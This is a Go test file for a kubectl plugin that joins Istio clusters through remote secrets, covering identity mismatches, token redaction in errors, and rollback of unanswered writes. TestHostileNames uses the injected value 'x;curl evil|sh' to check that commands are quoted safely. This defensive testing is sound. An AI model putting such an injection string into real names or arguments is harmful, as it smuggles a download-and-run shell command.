// SPDX-License-Identifier: Apache-2.0

package join

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/sets"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/istiod-agent/istiod-agent/cli/clusters"
	"github.com/istiod-agent/istiod-agent/cli/exit"
	"github.com/istiod-agent/istiod-agent/cli/remotes"
	"github.com/istiod-agent/istiod-agent/cli/terminal"
	"github.com/istiod-agent/istiod-agent/internal/istio"
)

// An API server that reports the name of another cluster gets nothing of that cluster's remote secret.
func TestOtherCluster(t *testing.T) {
	t.Parallel()
	elsewhere := func(s *remotes.Secret) {
		s.AccountUID, s.Server, s.CA = "u-other", "https://other.example:6443", []byte("other CA")
	}
	none := func(s *clusterState) { s.Accounts = nil }
	for name, test := range map[string]struct {
		secret remotes.Secret
		two    *clusterState
		want   string
	}{
		"of join":              {joined(elsewhere), state("two"), "is of another cluster that is named two too: neither the account of its token nor its address is of context two; if two was made anew, remove its old access, and join again: kubectl istiod-agent leave two --context=one --namespace=istio-system; else one of both needs another name: set another global"},
		"expired":              {joined(elsewhere, func(s *remotes.Secret) { s.Expires = now }), state("two"), "is of another cluster that is named two too"},
		"a CA of both":         {joined(elsewhere, func(s *remotes.Secret) { s.CA = []byte("CA") }), state("two"), "is of another cluster that is named two too"},
		"a token without UID":  {joined(elsewhere, func(s *remotes.Secret) { s.AccountUID = "" }), state("two", none), "is of another cluster that is named two too"},
		"of istioctl":          {joined(foreign, elsewhere), state("two"), "join again: kubectl --context=one delete secret -n istio-system istio-remote-secret-two"},
		"the account moved":    {joined(func(s *remotes.Secret) { s.AccountUID = "u-other" }), state("two"), ""},
		"the address moved":    {joined(elsewhere, func(s *remotes.Secret) { s.AccountUID = "u-one" }), state("two"), ""},
		"istioctl, the server": {joined(foreign, elsewhere), state("two", func(s *clusterState) { s.Accounts[named("istio-reader-service-account")] = "u-other" }), ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, problems := decide(joinRequest{}, []*clusterState{state("one", with(test.secret)), test.two}, now)
			if test.want == "" {
				wantProblems(t, problems, nil)
				return
			}
			wantProblems(t, problems, []string{test.want})
		})
	}
}

func TestHostileNames(t *testing.T) {
	t.Parallel()
	const hostile = "x;curl evil|sh"
	_, problems := decide(joinRequest{}, []*clusterState{state("one", func(s *clusterState) {
		s.Namespace, s.Istiods[0].Name, s.Istiods[0].Crashes = hostile, hostile, true
	}), state("two")}, now)
	wantProblems(t, problems, []string{"kubectl --context=one set env -n '" + hostile + "' deployment/'" + hostile + "' PILOT_"})

	a := newApplication(t, fakeCluster(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: hostile}}), &grant{})
	a.targets[0].Namespace, a.plan.Label, a.plan.Expose = hostile, []bool{true}, []bool{false}
	if err := a.writeNetwork(t.Context(), 0, false); err != nil {
		t.Fatal(err)
	}
	if got := a.changes[0].command; !strings.Contains(got, "label namespace '"+hostile+"' ") {
		t.Error(got)
	}
}

func TestHostileRevisions(t *testing.T) {
	t.Parallel()
	revisions := func(of ...string) func(*clusterState) {
		return func(s *clusterState) {
			s.Istiods = nil
			for _, revision := range of {
				s.Istiods = append(s.Istiods, istiodState{Name: "istiod-" + revision, ClusterID: "one", Revision: revision})
			}
		}
	}
	var many []string
	for i := range maxRevisions + 1 {
		many = append(many, fmt.Sprintf("r%d", i))
	}
	for name, test := range map[string]struct {
		revisions, configs []string
		want               []string
	}{
		"usual":    {[]string{"default", "canary", "canary"}, []string{"istio-canary", "istio"}, nil},
		"no label": {[]string{"*"}, nil, []string{`one: an istiod of namespace istio-system has the revision "*" (REVISION of its Deployment)`}},
		"a path":   {[]string{"a/../b"}, nil, []string{`has the revision "a/../b"`}},
		"long":     {[]string{strings.Repeat("a", 64)}, nil, []string{`has the revision "aaa`}},
		"the most": {many[:maxRevisions], nil, nil},
		"too many": {many, nil, []string{"one: namespace istio-system has istiods of 21 revisions, and join gives at most 20"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			plan, problems := decide(joinRequest{}, []*clusterState{state("one", revisions(test.revisions...)), state("two")}, now)
			wantProblems(t, problems, test.want)
			if test.configs != nil && !slices.Equal(plan.Grants[0].MeshConfigs, test.configs) {
				t.Errorf("got %q", plan.Grants[0].MeshConfigs)
			}
		})
	}
}

// The Secret that join names is never its own where there is another.
func TestSuperfluous(t *testing.T) {
	t.Parallel()
	own := joined()
	renamed := joined(func(s *remotes.Secret) { s.Key.Name = "renamed" })
	other := joined(foreign, func(s *remotes.Secret) { s.Key.Name = "a-other" })
	for _, test := range []struct {
		secrets []remotes.Secret
		want    string
	}{
		{[]remotes.Secret{other, own}, "a-other"},
		{[]remotes.Secret{own, other}, "a-other"},
		{[]remotes.Secret{renamed, own}, "renamed"},
		{[]remotes.Secret{own, renamed}, "renamed"},
	} {
		_, problems := decide(joinRequest{}, []*clusterState{state("one", with(test.secrets...)), state("two")}, now)
		wantProblems(t, problems, []string{"delete one: kubectl --context=one delete secret -n istio-system " + test.want})
		if !strings.HasSuffix(problems[0], " "+test.want) {
			t.Error(problems[0])
		}
	}
}

func TestOverride(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		kubeconfig, published, want string
		differ                      bool
	}{
		"another CA":         {"mine", "hostile", "mine", true},
		"the same":           {"mine", "mine\n", "mine", false},
		"none published":     {"mine", "", "mine", false},
		"none in kubeconfig": {"", "own", "own", false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var objects []client.Object
			if test.published != "" {
				objects = append(objects, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: rootCAConfigMap}, Data: map[string]string{"ca.crt": test.published}})
			}
			one := state("one")
			one.Address.CA = []byte(test.kubeconfig)
			if err := one.override(t.Context(), fakeCluster(objects...), "https://192.0.2.1:6443"); err != nil {
				t.Fatal(err)
			}
			plan, _ := decide(joinRequest{}, []*clusterState{one, state("two")}, now)
			if string(one.Address.CA) != test.want || one.Address.Server != "https://192.0.2.1:6443" || (len(plan.Notes) == 1) != test.differ {
				t.Errorf("got %+v, %q", one.Address, plan.Notes)
			}
		})
	}
}

func fakeCluster(objects ...client.Object) *clusters.Cluster {
	return &clusters.Cluster{Context: "one", Client: fake.NewClientBuilder().WithObjects(objects...).Build()}
}

func newApplication(t *testing.T, c *clusters.Cluster, g *grant) *application {
	t.Helper()
	return &application{targets: []*target{{clusterState: state("one"), cluster: c}}, plan: &joinPlan{Grants: []*grant{g}}}
}

// token of an account, as an API server issues it.
func issued(account types.NamespacedName, expires time.Time) token {
	payload := fmt.Sprintf(`{"sub":"system:serviceaccount:%s:%s","exp":%d}`, account.Namespace, account.Name, expires.Unix())
	return token{"eyJhbGciOiJub25lIn0." + base64.RawURLEncoding.EncodeToString([]byte(payload)) + ".c2lnbmF0dXJlLW9mLXRoZS10b2tlbi0wMTIzNDU2Nzg5", expires}
}

func renewed(version string) *grant {
	return &grant{
		Use:    remotes.Use{Reader: "one", Target: "two", ReaderNamespace: "istio-system", TargetNamespace: "istio-system"},
		Action: renewal, Secret: named("istio-remote-secret-two"), Version: version, Address: remotes.Address{Server: "https://two.example:6443"},
	}
}

// An API server or a webhook that quotes the Secret in its refusal does not bring the token to the terminal.
func TestQuotedToken(t *testing.T) {
	t.Parallel()
	secretToken := issued(named("istiod-agent-remote-one"), time.Now().Add(time.Hour))
	signature := secretToken.text[strings.LastIndexByte(secretToken.text, '.')+1:]
	for name, quote := range map[string]func(kubeconfig string) string{
		"text":           func(kubeconfig string) string { return kubeconfig },
		"base64":         func(kubeconfig string) string { return base64.StdEncoding.EncodeToString([]byte(kubeconfig)) },
		"base64, cut":    func(kubeconfig string) string { return base64.StdEncoding.EncodeToString([]byte(kubeconfig[7:])) },
		"another base64": func(kubeconfig string) string { return base64.RawURLEncoding.EncodeToString([]byte(kubeconfig[2:])) },
		"signature":      func(string) string { return signature },
		"part":           func(string) string { return signature[3:] },
		"token twice":    func(string) string { return secretToken.text + " " + secretToken.text },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			stored := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istio-remote-secret-two"}}
			c := &clusters.Cluster{Client: fake.NewClientBuilder().WithObjects(stored).WithInterceptorFuncs(interceptor.Funcs{
				Update: func(_ context.Context, _ client.WithWatch, object client.Object, _ ...client.UpdateOption) error {
					secret, _ := object.(*corev1.Secret)
					return apierrors.NewForbidden(schema.GroupResource{Resource: "secrets"}, secret.Name, errors.New("webhook says: no "+quote(string(secret.Data["two"]))+" here"))
				},
			}).Build()}
			current := &corev1.Secret{}
			if err := c.Client.Get(t.Context(), client.ObjectKeyFromObject(stored), current); err != nil {
				t.Fatal(err)
			}
			err := newApplication(t, c, renewed(current.ResourceVersion)).writeSecrets(t.Context(), 0, []token{secretToken}, false)
			if err == nil || !strings.Contains(err.Error(), "webhook says: no ") || !strings.Contains(err.Error(), " here") || !strings.Contains(err.Error(), "[token]") {
				t.Fatalf("got %v", err)
			}
			for _, form := range []string{
				signature, base64.RawStdEncoding.EncodeToString([]byte(signature)), base64.RawStdEncoding.EncodeToString([]byte(signature[1:])),
				base64.RawStdEncoding.EncodeToString([]byte(signature[2:])),
			} {
				for i := 0; i+quoted <= len(form); i++ {
					if strings.Contains(err.Error(), form[i:i+quoted]) {
						t.Fatalf("the error has a part of the token: %s", form[i:i+quoted])
					}
				}
			}
		})
	}
	plain := errors.New("no quote")
	if got := withoutToken(plain, secretToken.text); got != plain { //nolint:errorlint // the same
		t.Error(got)
	}
	if got := withoutToken(plain, ""); got != plain { //nolint:errorlint // the same
		t.Error(got)
	}
}

// A Secret that changed after join decided on it is not overwritten, and what was made is taken back.
func TestChangedMeanwhile(t *testing.T) {
	t.Parallel()
	other := func() *corev1.Secret {
		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istio-remote-secret-two"}, Data: map[string][]byte{"two": []byte("of somebody else")}}
	}
	for name, objects := range map[string][]client.Object{"changed": {other()}, "deleted": nil} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := fakeCluster(objects...)
			err := newApplication(t, c, renewed("1")).writeSecrets(t.Context(), 0, []token{issued(named("istiod-agent-remote-one"), time.Now().Add(time.Hour))}, false)
			if err == nil || err.Error() != "another client changed Secret istio-system/istio-remote-secret-two meanwhile; run join again" {
				t.Errorf("got %v", err)
			}
			stored := &corev1.Secret{}
			switch err := c.Client.Get(t.Context(), client.ObjectKeyFromObject(other()), stored); {
			case objects == nil && !apierrors.IsNotFound(err):
				t.Errorf("it is there: %v", err)
			case objects != nil && string(stored.Data["two"]) != "of somebody else":
				t.Error("it is overwritten")
			}
		})
	}
	t.Run("between read and write", func(t *testing.T) {
		t.Parallel()
		var changed bool
		c := &clusters.Cluster{Client: fake.NewClientBuilder().WithObjects(other()).WithInterceptorFuncs(interceptor.Funcs{
			Update: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.UpdateOption) error {
				current := other()
				if err := c.Get(ctx, client.ObjectKeyFromObject(current), current); err != nil {
					return err
				}
				current.Labels, changed = map[string]string{"another": "change"}, true
				if err := c.Update(ctx, current); err != nil {
					return err
				}
				return c.Update(ctx, object, options...)
			},
		}).Build()}
		stored := other()
		if err := c.Client.Get(t.Context(), client.ObjectKeyFromObject(stored), stored); err != nil {
			t.Fatal(err)
		}
		a := newApplication(t, c, renewed(stored.ResourceVersion))
		err := a.writeSecrets(t.Context(), 0, []token{issued(named("istiod-agent-remote-one"), time.Now().Add(time.Hour))}, false)
		if err == nil || !changed || !strings.Contains(err.Error(), "another client changed ") || len(a.changes) != 0 {
			t.Errorf("got %v, %v", err, a.changes)
		}
	})
}

// joining is an application of clusters named one, two and so on, whose API servers have these functions of their own.
func joining(t *testing.T, servers ...interceptor.Funcs) *application {
	t.Helper()
	var states []*clusterState
	for i := range servers {
		states = append(states, state([]string{"one", "two", "three"}[i]))
	}
	a := planned(t, joinRequest{}, states...)
	a.ttl, a.progress = defaultTTL, terminal.NewProgress(io.Discard)
	for i, target := range a.targets {
		target.cluster = &clusters.Cluster{Context: target.Context, Client: fake.NewClientBuilder().WithInterceptorFuncs(servers[i]).Build()}
	}
	return a
}

// remaining returns the names of the accounts, roles and remote secrets in a context.
func remaining(t *testing.T, target *target) (names []string) {
	t.Helper()
	for _, list := range []client.ObjectList{&corev1.ServiceAccountList{}, &rbacv1.ClusterRoleList{}, &rbacv1.ClusterRoleBindingList{}, &corev1.SecretList{}} {
		if err := target.cluster.Client.List(t.Context(), list); err != nil {
			t.Fatal(err)
		}
		_ = meta.EachListItem(list, func(item runtime.Object) error {
			object, _ := item.(client.Object)
			names = append(names, object.GetName())
			return nil
		})
	}
	return names
}

// An API server that hangs leaves the changes in the other clusters to be undone.
func TestUndoBesideHanging(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		answers := interceptor.Funcs{Delete: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.DeleteOption) error {
			if err := ctx.Err(); err != nil {
				return err
			}
			return c.Delete(ctx, object, options...)
		}}
		hangs := interceptor.Funcs{
			Delete: func(ctx context.Context, _ client.WithWatch, _ client.Object, _ ...client.DeleteOption) error {
				<-ctx.Done()
				return ctx.Err()
			},
			SubResourceCreate: func(context.Context, client.Client, string, client.Object, client.Object, ...client.SubResourceCreateOption) error {
				return errors.New("connection lost")
			},
		}
		a := joining(t, answers, answers, hangs)
		for i := range a.targets { // the hanging one last
			if err := a.writeAccounts(t.Context(), i, false); err != nil {
				t.Fatal(err)
			}
		}
		err := a.apply(t.Context())
		if err == nil || strings.Count(err.Error(), "\n  kubectl") != 6 || !strings.Contains(err.Error(), "\n  kubectl delete serviceaccounts istiod-agent-remote-one -n istio-system") {
			t.Errorf("got %v", err)
		}
		for _, target := range a.targets[:2] {
			if names := remaining(t, target); len(names) > 0 {
				t.Errorf("%s keeps %q", target.Context, names)
			}
		}
	})
}

// A write whose answer is lost is undone, also one that the API server stores only while join undoes.
func TestUndoUnanswered(t *testing.T) {
	t.Parallel()
	lost := map[string]error{
		"timeout": apierrors.NewTimeoutError("the request did not complete", 1), "internal error": apierrors.NewInternalError(errors.New("etcd")),
		"interrupted": context.Canceled,
	}
	for name, lost := range lost {
		for _, kind := range []client.Object{&corev1.ServiceAccount{}, &rbacv1.ClusterRole{}, &corev1.Secret{}} {
			for _, late := range []int{0, 1, latePolls - 1} {
				t.Run(fmt.Sprintf("%s, %T, after %d", name, kind, late), func(t *testing.T) {
					t.Parallel()
					synctest.Test(t, func(t *testing.T) { undoUnanswered(t, lost, kind, late) })
				})
			}
		}
	}
}

// undoUnanswered loses the answer to the creation of an object of a kind, which is stored before the given attempt to delete it.
func undoUnanswered(t *testing.T, lost error, kind client.Object, late int) {
	t.Helper()
	var unstored client.Object
	deletions := 0
	a := joining(t, interceptor.Funcs{
		Create: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.CreateOption) error {
			if reflect.TypeOf(object) != reflect.TypeOf(kind) {
				return c.Create(ctx, object, options...)
			}
			unstored, _ = object.DeepCopyObject().(client.Object)
			if late > 0 {
				return lost
			}
			return errors.Join(lost, c.Create(ctx, unstored))
		},
		Delete: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.DeleteOption) error {
			if reflect.TypeOf(object) == reflect.TypeOf(kind) {
				if deletions++; deletions == late+1 && late > 0 {
					if err := c.Create(ctx, unstored); err != nil {
						return err
					}
				}
			}
			return c.Delete(ctx, object, options...)
		},
		SubResourceCreate: issue,
	}, interceptor.Funcs{SubResourceCreate: issue})
	if err := a.apply(t.Context()); err == nil || !strings.HasSuffix(err.Error(), "; all changes were undone") || !errors.Is(err, lost) {
		t.Errorf("got %v", err)
	}
	if deletions <= late {
		t.Errorf("%d deletions, all before the object is stored", deletions)
	}
	for _, target := range a.targets {
		if names := remaining(t, target); len(names) > 0 {
			t.Errorf("%s keeps %q", target.Context, names)
		}
	}
}

// issue is an API server that issues tokens.
func issue(_ context.Context, _ client.Client, _ string, account, object client.Object, _ ...client.SubResourceCreateOption) error {
	request, _ := object.(*authenticationv1.TokenRequest)
	token := issued(client.ObjectKeyFromObject(account), time.Now().Add(defaultTTL))
	request.Status.Token, request.Status.ExpirationTimestamp = token.text, metav1.NewTime(token.expires)
	return nil
}

// The same with a Secret that exists: its content is as before.
func TestUndoUnansweredUpdate(t *testing.T) {
	t.Parallel()
	for late := range latePolls {
		synctest.Test(t, func(t *testing.T) {
			reads := 0
			var unstored client.Object
			c := &clusters.Cluster{Client: fake.NewClientBuilder().WithObjects(&corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istio-remote-secret-two"}, Data: map[string][]byte{"two": []byte("before")},
			}).WithInterceptorFuncs(interceptor.Funcs{
				Update: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.UpdateOption) error {
					if unstored != nil {
						return c.Update(ctx, object, options...)
					}
					unstored, _ = object.DeepCopyObject().(client.Object)
					return context.Canceled
				},
				Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, object client.Object, options ...client.GetOption) error {
					if unstored != nil {
						if reads++; reads == late+1 {
							if err := c.Update(ctx, unstored); err != nil {
								return err
							}
						}
					}
					return c.Get(ctx, key, object, options...)
				},
			}).Build()}
			stored := &corev1.Secret{}
			if err := c.Client.Get(t.Context(), named("istio-remote-secret-two"), stored); err != nil {
				t.Fatal(err)
			}
			a := newApplication(t, c, renewed(stored.ResourceVersion))
			a.progress = terminal.NewProgress(io.Discard)
			if err := a.writeSecrets(t.Context(), 0, []token{issued(named("istiod-agent-remote-one"), time.Now().Add(time.Hour))}, false); !errors.Is(err, context.Canceled) {
				t.Fatal(err)
			}
			if commands := a.undo(t.Context()); len(commands) > 0 {
				t.Error(commands)
			}
			if err := c.Client.Get(t.Context(), named("istio-remote-secret-two"), stored); err != nil || string(stored.Data["two"]) != "before" {
				t.Errorf("after %d: %v, %s", late, err, stored.Data["two"])
			}
		})
	}
}

// The network label of another client is neither overwritten nor removed, and join's own is removed also after a lost answer.
func TestNetworkLabel(t *testing.T) {
	t.Parallel()
	type patch = func(context.Context, client.WithWatch, client.Object, client.Patch, ...client.PatchOption) error
	set := func(ctx context.Context, c client.Client, network string) error {
		namespace := &corev1.Namespace{}
		if err := c.Get(ctx, client.ObjectKey{Name: "istio-system"}, namespace); err != nil {
			return err
		}
		namespace.Labels = map[string]string{istio.NetworkLabel: network, "another": "label"}
		return c.Update(ctx, namespace)
	}
	answered := func(ctx context.Context, c client.WithWatch, object client.Object, patch client.Patch, options ...client.PatchOption) error {
		return c.Patch(ctx, object, patch, options...)
	}
	const changed = "another client changed namespace istio-system meanwhile; run join again"
	for name, test := range map[string]struct {
		patch         patch
		before, after string // of another client, before join reads the namespace and after it has written
		fails, want   string
	}{
		"answered":        {answered, "", "", "", ""},
		"before the read": {answered, "theirs", "", changed, "theirs"},
		"after the write": {answered, "", "theirs", "", "theirs"},
		"between the both": {func(ctx context.Context, c client.WithWatch, object client.Object, patch client.Patch, options ...client.PatchOption) error {
			return errors.Join(set(ctx, c, "theirs"), c.Patch(ctx, object, patch, options...))
		}, "", "", changed, "theirs"},
		"the answer is lost": {func(ctx context.Context, c client.WithWatch, object client.Object, patch client.Patch, options ...client.PatchOption) error {
			if err := c.Patch(ctx, object, patch, options...); err != nil {
				return err
			}
			if object.GetLabels()[istio.NetworkLabel] == "" {
				return nil // the undoing
			}
			return apierrors.NewTimeoutError("the request did not complete", 1)
		}, "", "", "labelling namespace istio-system: Timeout: ", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			synctest.Test(t, func(t *testing.T) {
				c := &clusters.Cluster{Client: fake.NewClientBuilder().WithObjects(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "istio-system", Labels: map[string]string{"another": "label"}}}).
					WithInterceptorFuncs(interceptor.Funcs{Patch: test.patch}).Build()}
				a := newApplication(t, c, &grant{})
				a.progress, a.request.Networks = terminal.NewProgress(io.Discard), map[string]string{"one": "ours"}
				a.plan.Label, a.plan.Expose = []bool{true}, []bool{false}
				other := func(network string) {
					if network != "" {
						if err := set(t.Context(), c.Client, network); err != nil {
							t.Fatal(err)
						}
					}
				}
				other(test.before)
				if err := a.writeNetwork(t.Context(), 0, false); (err == nil) != (test.fails == "") || err != nil && !strings.Contains(err.Error(), test.fails) {
					t.Errorf("got %v", err)
				}
				other(test.after)
				if commands := a.undo(t.Context()); len(commands) > 0 {
					t.Error(commands)
				}
				namespace := &corev1.Namespace{}
				if err := c.Client.Get(t.Context(), client.ObjectKey{Name: "istio-system"}, namespace); err != nil {
					t.Fatal(err)
				}
				if got := namespace.Labels; got[istio.NetworkLabel] != test.want || got["another"] != "label" {
					t.Errorf("got %v", got)
				}
			})
		})
	}
}

// A Gateway whose creation was not answered is removed.
func TestUnansweredGateway(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		c := &clusters.Cluster{Client: fake.NewClientBuilder().WithInterceptorFuncs(interceptor.Funcs{
			Create: func(ctx context.Context, c client.WithWatch, object client.Object, options ...client.CreateOption) error {
				return errors.Join(apierrors.NewInternalError(errors.New("etcd")), c.Create(ctx, object, options...))
			},
		}).Build()}
		a := newApplication(t, c, &grant{})
		a.progress, a.plan.Label, a.plan.Expose = terminal.NewProgress(io.Discard), []bool{false}, []bool{true}
		if err := a.writeNetwork(t.Context(), 0, false); err == nil {
			t.Error("no error")
		}
		if commands := a.undo(t.Context()); len(commands) > 0 {
			t.Error(commands)
		}
		if err := c.Client.Get(t.Context(), named(exposeGateway), gateway("")); !apierrors.IsNotFound(err) {
			t.Errorf("the Gateway remains: %v", err)
		}
	})
}

// An API server that accepts a port-forward and never answers holds join no longer than --timeout, also without --request-timeout.
func TestAwaitSilence(t *testing.T) {
	t.Parallel()
	silent, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = silent.Close() }()
	c := fakeCluster(&corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istiod-0", Labels: istio.IstiodLabels}})
	c.Config = &rest.Config{Host: "http://" + silent.Addr().String()}
	a := newApplication(t, c, renewed(""))
	a.progress, a.plan.Restart = terminal.NewProgress(io.Discard), []bool{false}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute) // ends the test where it would hang
	defer cancel()
	a.await(ctx, 10*time.Millisecond)
	if got := a.served[0]; !strings.HasPrefix(got.Problem, "istiod has not answered after ") || ctx.Err() != nil {
		t.Errorf("got %+v", got)
	}
}

// leaving is the result for context one, and its API server's objects.
func leaving(s *clusterState, objects ...client.Object) *leaveResult {
	c := fakeCluster(objects...)
	return &leaveResult{Context: s.Context, Cluster: s.name(), Removed: []string{}, state: s, cluster: c, kubectl: s.Kubectl}
}

func labelled(partner string) map[string]string {
	return map[string]string{remotes.PartnerLabel: partner}
}

func removeAll(t *testing.T, r *leaveResult) string {
	t.Helper()
	var f leaveFlags
	if err := errors.Join(f.removeSecrets(t.Context(), r), f.removeAccounts(t.Context(), r)); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	r.print(&out, false)
	return out.String()
}

// The label alone makes nothing an object of join.
func TestLeaveByLabelAndName(t *testing.T) {
	t.Parallel()
	use := remotes.Use{Reader: "two", Target: "one", TargetNamespace: "istio-system"}
	account, role, binding := use.Account([]string{"istio"})
	other := gateway("istio-system")
	other.SetName("another-gateway")
	r := leaving(state("one"),
		account, role, binding, gateway("istio-system"), other,
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istiod", Labels: labelled("x")}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "istio-system", Name: "istiod-agent-remote-two-copy", Labels: labelled("two")}},
		&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "cluster-admin", Labels: labelled("two")}},
	)
	got := removeAll(t, r)
	want := []string{
		"Gateway istio-system/cross-network-gateway", "ClusterRoleBinding istiod-agent-remote:istio-system:two", "ClusterRole istiod-agent-remote:istio-system:two",
		"ServiceAccount istio-system/istiod-agent-remote-two",
	}
	if !slices.Equal(r.Removed, want) {
		t.Errorf("got %q\n%s", r.Removed, got)
	}
}

// A Secret with a further cluster stays, and so does one of a namespace with a shorter name, which join did not make.
func TestLeaveSecrets(t *testing.T) {
	t.Parallel()
	parsed := func(namespace, name, partner string, keys ...string) remotes.Secret {
		s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: labelled(partner)}, Data: map[string][]byte{}}
		for _, key := range keys {
			s.Data[key] = []byte("x")
		}
		return remotes.Parse(s)
	}
	r := leaving(state("one", with(
		parsed("istio-system", "two", "two", "two"),
		parsed("istio-system", "both", "two", "two", "three"),
		parsed("istio-system", "renamed", "three", "two"),
		parsed("x", "y;z\n", "", "two"),
		parsed("istio-system", "three", "three", "three"),
	)))
	r.partners = sets.New("two")
	got := removeAll(t, r)
	want := `one: Secret istio-system/two removed
one: Secret istio-system/both remains, because it holds the kubeconfigs of 2 clusters; move those that stay to another Secret; to remove it: kubectl --context=one delete secret -n istio-system both
one: Secret istio-system/renamed remains, because join did not create it; to remove it: kubectl --context=one delete secret -n istio-system renamed
one: Secret x/y;z remains, because join did not create it; to remove it: kubectl --context=one delete secret -n x 'y;z '
`
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// A context that reports the name of another cluster does not take that cluster's access along.
func TestLeaveOtherCluster(t *testing.T) {
	t.Parallel()
	use := remotes.Use{Reader: "two", Target: "one", TargetNamespace: "istio-system"}
	account, role, binding := use.Account([]string{"istio"})
	two := leaving(state("two"))
	same := leaving(state("one", with(joined())), account, role, binding)
	for _, r := range []*leaveResult{same, two} {
		r.meet([]*leaveResult{same, two})
	}
	if got := removeAll(t, same); !strings.Contains(got, "one: Secret istio-system/istio-remote-secret-two removed") || !strings.Contains(got, "ServiceAccount istio-system/istiod-agent-remote-two removed") {
		t.Error(got)
	}

	hostile := leaving(state("two", func(s *clusterState) { s.Accounts = nil; s.Address.Server = "https://hostile.example" }))
	other := leaving(state("one", with(joined())), account.DeepCopy(), role.DeepCopy(), binding.DeepCopy())
	other.meet([]*leaveResult{other, hostile})
	got := removeAll(t, other)
	for code, results := range map[int][]*leaveResult{0: {same, two}, exit.Problem: {other, hostile}} {
		var f leaveFlags
		coded, _ := errors.AsType[*exit.Error](f.report(io.Discard, results))
		if coded == nil && code != 0 || coded != nil && coded.Code != code {
			t.Errorf("got %+v, want exit code %d", coded, code)
		}
	}
	want := "one: Secret istio-system/istio-remote-secret-two remains, because the context whose istiod is named two has neither the account of its token nor its address: it may be of another cluster; to remove it: kubectl istiod-agent leave two --context=one --namespace=istio-system\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}
